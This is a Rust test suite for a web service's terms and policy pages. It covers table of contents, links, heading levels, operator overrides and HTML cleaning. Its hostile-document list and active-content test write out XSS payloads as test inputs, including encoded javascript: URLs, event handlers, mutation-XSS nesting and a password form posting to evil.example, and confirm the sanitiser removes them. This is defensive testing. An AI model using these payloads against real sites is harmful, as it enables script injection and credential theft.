//! The terms pages, and the cleaning of HTML written by others.

use std::collections::BTreeSet;

use lavi::domain::Language;

use crate::{doubles::account_service::Stub, site::Site};

/// A document as the page of the service terms shows it.
async fn shown(html: &'static str) -> String {
    let stub = Stub::telling(&[("terms/service-terms", html)]);
    let more = "[main_app]\nroot = \"https://diary.example/app\"";
    let site = Site::with(&format!(
        "[account_api]\nroot = \"{0}\"\npublic_root = \"https://id.example/\"\n{more}",
        stub.root
    ));
    let page = site.browser().get("/lv/terms/service").await;
    assert_eq!(page.status, 200, "{page}");
    let start = page.body.find("<div class=\"prose\">").unwrap() + "<div class=\"prose\">".len();
    page.body[start..].split("</div>\n<p class=\"tools\"").next().unwrap().trim().to_owned()
}

#[actix_web::test]
async fn each_document_has_its_page_without_footer_languages_and_illustration() {
    let site = Site::start();
    for (path, screen) in [
        ("service", "terms"),
        ("privacy-policy", "privacy-policy"),
        ("cookies-privacy-policy", "cookies-privacy-policy"),
    ] {
        let page = site.browser().get(&format!("/ja/terms/{path}")).await;
        assert_eq!((page.status, page.screen().as_str()), (200, screen), "{page}");
        assert_eq!(
            page.count("footer") + page.count(".languages") + page.count(".illustration"),
            0,
            "{path}"
        );
        assert_eq!(page.count("h1"), 1);
        assert!(page.count(".prose h2") > 1 && page.count(".prose ul li") > 1, "{page}");
    }
    assert_eq!(site.browser().get("/ja/terms").await.location(), "/ja/terms/service");
}

#[actix_web::test]
async fn a_document_has_its_contents_a_way_back_and_a_download() {
    let site = Site::start();
    let page = site.browser().get("/en/terms/privacy-policy").await;
    let headings = page.texts(".prose h2");
    assert!(headings.len() > 2 && page.texts(".contents li") == headings, "{page}");
    for address in page.attributes(".contents a", &["href"]) {
        assert_eq!(page.count(&format!(".prose h2{address}")), 1, "{address}");
    }
    assert_eq!(page.count("a[href='/en'][data-action=back]"), 2, "at the top and at the end");
    let file = page.attribute(".tools a[href$=download]", "href").unwrap();
    assert_eq!(site.browser().get(&file).await.status, 200);
    assert_eq!(page.count("button"), 0, "printing takes a script");
    let cookies = site.browser().get("/en/terms/cookies-privacy-policy").await;
    assert_eq!(cookies.count(".tools a[href$=download]"), 0, "there is none of this one");
}

#[actix_web::test]
async fn contents_name_headings_as_they_read_and_keep_their_ids() {
    let stub = Stub::telling(&[(
        "terms/service-terms",
        "<h2>A &amp; <i>b</i> &lt;c></h2><h2 id=\"own\" lang=\"en\">Own</h2><h2></h2><h2>Three</h2>",
    )]);
    let site = Site::with(&format!("[account_api]\nroot = \"{}\"", stub.root));
    let page = site.browser().get("/en/terms/service").await;
    assert_eq!(page.texts(".contents li"), ["A & b <c>", "Own", "Three"], "{page}");
    assert_eq!(
        page.attributes(".contents a", &["href"]),
        ["#section-1", "#document-own", "#section-4"],
        "{page}"
    );
    assert_eq!(page.text("#document-own[lang=en]"), "Own", "{page}");
    let stub = Stub::telling(&[("terms/service-terms", "<h2>One</h2><h2>Two</h2>")]);
    let site = Site::with(&format!("[account_api]\nroot = \"{}\"", stub.root));
    let page = site.browser().get("/en/terms/service").await;
    assert_eq!(page.count(".contents") + page.count(".prose [id]"), 0, "{page}");
}

#[actix_web::test]
async fn the_accessibility_statement_is_the_sites_own_and_says_what_the_configuration_does() {
    let said = "[operator]\nname = \"Kool <1>\"\naccessibility_authority = \"Amet\"\naccessibility_date = \"2026-09-01\"";
    let stub = Stub::telling(&[]);
    for service in [String::new(), format!("[account_api]\nroot = \"{}\"", stub.root)] {
        let site = Site::with(&format!("{said}\n{service}"));
        let page = site.browser().get("/en/terms/accessibility").await;
        assert_eq!((page.status, page.screen().as_str()), (200, "accessibility"), "{page}");
        let text = page.text(".prose");
        for words in ["Operator: Kool <1>", "Authority: Amet", "Prepared on: 2026-09-01", "Päevik"]
        {
            assert!(text.contains(words), "{words}: {page}");
        }
        assert!(
            !text.contains("Contact:") && !text.contains('{'),
            "what is empty is left out: {page}"
        );
        let footer = site.browser().get("/fr").await;
        assert_eq!(footer.count("footer a[href='/fr/terms/accessibility']"), 1, "{footer}");
    }
}

#[test]
fn the_statements_name_what_the_document_on_accessibility_calls_not_met() {
    let document = std::fs::read_to_string("docs/accessibility.md").unwrap();
    let unmet: BTreeSet<_> = document
        .lines()
        .filter(|line| line.contains("| **not met**"))
        .filter_map(|line| line.strip_prefix("| ")?.split(' ').next())
        .collect();
    assert!(!unmet.is_empty(), "{document}");
    for language in Language::ALL {
        let statement = format!("i18n/{language}/documents/accessibility.html");
        let statement = std::fs::read_to_string(statement).unwrap();
        // A criterion is three numbers: 3.3.7.
        let named: BTreeSet<_> = statement
            .split(|c: char| !c.is_ascii_digit() && c != '.')
            .map(|word| word.trim_matches('.'))
            .filter(|word| word.split('.').filter(|part| !part.is_empty()).count() == 3)
            .collect();
        assert_eq!(named, unmet, "{language}");
    }
}

#[actix_web::test]
async fn active_content_is_removed_from_a_document() {
    let text = shown(concat!(
        "<title>T</title><script>alert(1)</script><style>p{}</style><p style=\"x\" onclick=\"a()\" class=\"c\">Be kind</p>",
        "<a href=\"javascript:a()\">j</a><a href=\"java\nscript:a()\">k</a><a href=\"data:text/html,x\">d</a>",
        "<img src=\"https://spy.example/p.gif\" onerror=\"a()\"><form action=\"/x\"><input name=\"password\">f</form>",
        "<iframe src=\"/\">i</iframe><svg onload=\"a()\"><a>s</a></svg><p>2 &lt; 3</p>"
    ))
    .await;
    assert_eq!(
        text,
        "<p>Be kind</p><a rel=\"noopener\">j</a><a rel=\"noopener\">k</a><a rel=\"noopener\">d</a>f<p>2 &lt; 3</p>"
    );
}

/// What an attacker who writes a document might try, and the text that must remain.
const HOSTILE: [(&str, &str); 22] = [
    ("<script>alert(1)</script><script src=//evil.example/x.js></script>left", "left"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt>alert(1)ipt>"),
    ("<SCRIPT/XSS SRC=//evil.example></SCRIPT>left", "left"),
    ("<p onclick=alert(1) onmouseover='a()' ONFOCUS=a autofocus tabindex=1>left</p>", "left"),
    ("<a href=\"JaVaScRiPt:alert(1)\">left</a>", "left"),
    ("<a href=\"&#106;&#97;vascript&colon;alert(1)\">left</a>", "left"),
    ("<a href=\" \u{1}javascript:alert(1)\">left</a>", "left"),
    ("<a href=\"jav&#x09;ascript:alert(1)\">left</a>", "left"),
    (
        "<a href=\"vbscript:x\">l</a><a href=\"data:text/html;base64,PHNjcmlwdD4=\">e</a><a href=\"blob:x\">ft</a>",
        "left",
    ),
    (
        "<p style=\"background:url(//evil.example)\" class=\"button\">left</p><style>@import '//evil.example';</style>",
        "left",
    ),
    (
        "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=\"0;url=//evil.example\">left",
        "left",
    ),
    ("<base href=//evil.example/><base target=_blank>left", "left"),
    (
        "<svg><a xlink:href=\"javascript:a()\"><circle onload=a()></a><script>a()</script></svg>left",
        "left",
    ),
    ("<svg><style><img src=x onerror=a()></style></svg>left", "left"),
    (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=a()&gt;\">",
        "",
    ),
    ("<noscript><p title=\"</noscript><img src=x onerror=a()>\">left", "\">left"),
    (
        "<form action=//evil.example method=post><input name=password type=password><button formaction=x>left</button></form>",
        "left",
    ),
    (
        "<iframe src=//evil.example srcdoc=\"<script>a()</script>\"></iframe><embed src=x><object data=x>x</object>left",
        "left",
    ),
    (
        "<img src=//evil.example/pixel.gif srcset=x><video src=x></video><audio src=x></audio><picture><source></picture>left",
        "left",
    ),
    (
        "<p id=main name=password data-island=waiting data-code=x data-screen=login role=alert aria-hidden=true>left</p>",
        "left",
    ),
    (
        "</div></main></body></html><main data-screen=login>left</main><!-- <b>hidden</b> -->",
        "left",
    ),
    (
        "<template><script>a()</script></template><textarea><script>a()</script></textarea><title>t</title>left",
        "left",
    ),
];

#[actix_web::test]
async fn hostile_documents_come_out_clean() {
    for (html, left) in HOSTILE {
        let stub =
            Stub::telling(&[("terms/service-terms", html), ("terms/service-terms/read", html)]);
        let site = Site::before(&stub, "");
        for path in ["/en/terms/service", "/en/agreeToTerms"] {
            let page = site.browser().get(path).await;
            assert_eq!(page.text(".prose"), left, "{html}");
            for tag in [
                "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta",
                "base", "form", "img", "template",
            ] {
                assert_eq!(page.count(&format!(".prose {tag}")), 0, "{html}\n{page}");
            }
            assert_eq!(
                (page.count("main"), page.count("body"), page.count("#main")),
                (1, 1, 1),
                "{html}"
            );
            let parsed = page.html();
            let all = scraper::Selector::parse(".prose, .prose *").unwrap();
            for (name, value) in
                parsed.select(&all).skip(1).flat_map(|element| element.value().attrs())
            {
                let is_known = ["href", "id", "rel"].contains(&name);
                assert!(
                    is_known && !value.contains("evil") && !value.contains("script"),
                    "{html}: {name}={value}"
                );
            }
        }
    }
}

#[actix_web::test]
async fn the_operator_replaces_a_document_for_a_language_or_a_brand_without_a_build() {
    let folder = tempfile::tempdir().unwrap();
    let write = |file: &str, text: &str| {
        let file = folder.path().join("i18n").join(file);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, text).unwrap();
    };
    write("et/documents/service-terms.html", "<h2>Meie tingimused</h2><script>a()</script>");
    write("brands/sibling/lv/service-terms.html", "<p>{product}: mūsu noteikumi</p>");
    let with = |brand: &str| {
        Site::with(&format!(
            "[site]\nbrand = \"{brand}\"\noverrides = \"{}\"",
            folder.path().display()
        ))
    };
    let (main, sibling) = (with("main"), with("sibling"));
    for site in [&main, &sibling] {
        let page = site.browser().get("/et/terms/service").await;
        assert_eq!(page.text(".prose"), "Meie tingimused", "{page}");
        let file = site.browser().get("/account/terms/service-terms/download?lang=et").await;
        assert!(
            file.body.contains("Meie tingimused")
                && file.header("content-disposition").starts_with("attachment"),
            "{file}"
        );
        assert!(
            site.browser().get("/en/terms/service").await.count(".prose h2") > 1,
            "other languages are as built in"
        );
    }
    assert!(
        sibling
            .browser()
            .get("/lv/terms/service")
            .await
            .text(".prose")
            .ends_with(": mūsu noteikumi")
    );
    assert!(
        !main.browser().get("/lv/terms/service").await.text(".prose").contains("mūsu noteikumi")
    );
    write("et/documents/service-terms.html", "<p>Uued tingimused</p>");
    assert_eq!(
        main.browser().get("/et/agreeToTerms").await.text(".prose"),
        "Uued tingimused",
        "without a restart, too"
    );
}

#[actix_web::test]
async fn links_to_policies_lead_to_our_pages_and_other_links_keep_their_target() {
    for (href, leads) in [
        ("terms/privacy-policy", "/lv/terms/privacy-policy"),
        ("/terms/privacy-policy/", "/lv/terms/privacy-policy"),
        ("../terms/privacy-policy?x=1", "/lv/terms/privacy-policy"),
        ("https://id.example/terms/privacy-policy", "/lv/terms/privacy-policy"),
        ("https://diary.example/app/terms/privacy-policy#a", "/lv/terms/privacy-policy"),
        ("//id.example/terms/privacy-policy", "/lv/terms/privacy-policy"),
        ("terms/cookies-privacy-policy", "/lv/terms/cookies-privacy-policy"),
        (
            "https://elsewhere.example/terms/privacy-policy",
            "https://elsewhere.example/terms/privacy-policy",
        ),
        ("help", "https://id.example/help"),
        ("#rights", "#document-rights"),
        ("mailto:help@id.example", "mailto:help@id.example"),
    ] {
        let html: &'static str = format!("<a href=\"{href}\">x</a>").leak();
        assert_eq!(
            shown(html).await,
            format!("<a href=\"{leads}\" rel=\"noopener\">x</a>"),
            "{href}"
        );
    }
}

#[actix_web::test]
async fn headings_stay_below_our_own() {
    let text = shown("<h1 id=\"a\">A</h1><h2>B</h2><h3>C</h3><h6>D</h6>").await;
    assert_eq!(text, "<h2 id=\"document-a\">A</h2><h3>B</h3><h4>C</h4><h6>D</h6>");
    assert_eq!(shown("<h2>B</h2>").await, "<h2>B</h2>");
}

#[actix_web::test]
async fn a_fault_of_the_service_shows_the_error_screen() {
    let stub = Stub::telling(&[]);
    let page = Site::before(&stub, "").browser().get("/en/terms/privacy-policy").await;
    assert_eq!((page.status, page.screen().as_str()), (503, "error"), "{page}");
}

#[actix_web::test]
async fn version_and_date_stand_above_the_contents_and_paper_names_whose_text_it_is() {
    let site = Site::with(
        "[operator]\nname = \"Kool <OÜ>\"\n[embedded]\nterms_version = \"7\"\nterms_date = \"2026-09-01\"",
    );
    let page = site.browser().get("/en/terms/service").await;
    let place = |part: &str| page.body.find(part).unwrap_or_else(|| panic!("{part}: {page}"));
    let order =
        ["Version: 7", "In force from: ", "class=\"contents\"", "Who this service is for</h2>"];
    assert!(order.map(place).is_sorted(), "{page}");
    assert_eq!(page.text(".printed"), "Päevik · Kool <OÜ> · http://localhost:8080/");
}
